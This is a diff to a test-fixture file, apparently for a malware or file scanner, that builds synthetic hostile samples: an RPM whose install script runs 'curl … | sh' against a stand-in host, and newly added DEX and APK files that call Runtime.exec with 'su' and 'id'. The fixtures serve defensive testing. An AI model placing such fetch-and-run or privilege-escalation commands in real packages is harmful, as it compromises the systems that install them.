@@ -1,4 +1,6 @@
 // Every file that the tests of the file side make: what hostile input is made from.
+import { writeApk } from '../android/write-apk.ts'
+import { writeDex } from '../android/write-dex.ts'
 import { writeRpm } from '../archives/write-rpm.ts'
 import { containers } from '../containers.ts'
 import { buildDotnet } from '../dotnet/build-dotnet.ts'
@@ -60,8 +62,21 @@ const programs: readonly Golden[] = [
 ]
 
 const described = exif({ 271: 'Example', 37510: 'a comment' }, true, true)
+const code = writeDex({
+  'com/example/Main': { onCreate: { calls: ['java/lang/Runtime.exec', 'com/example/b.run'], texts: ['su'] } },
+  'com/example/b': { run: { texts: ['id'] } },
+})
 const others: readonly Golden[] = [
   { name: 'scripts.rpm', bytes: writeRpm('#!/bin/sh\ncurl -fsS http://a.example/i.sh | sh\n') },
+  { name: 'classes.dex', bytes: code },
+  {
+    name: 'app.apk',
+    bytes: writeApk({
+      permissions: ['INTERNET'],
+      components: [['activity', '.Main', ['android.intent.action.MAIN']]],
+      code: { 'org/example/app/Main': { run: { calls: ['java/lang/Runtime.exec'] } } },
+    }),
+  },
   { name: 'assembly.dll', bytes: buildDotnet() },
   { name: 'exif.jpg', bytes: jpeg(segment(0xe1, Buffer.concat([Buffer.from('Exif\0\0'), described]))) },
   { name: 'exif.png', bytes: png(chunk('eXIf', described), chunk('tEXt', Buffer.from('Comment\0text'))) },
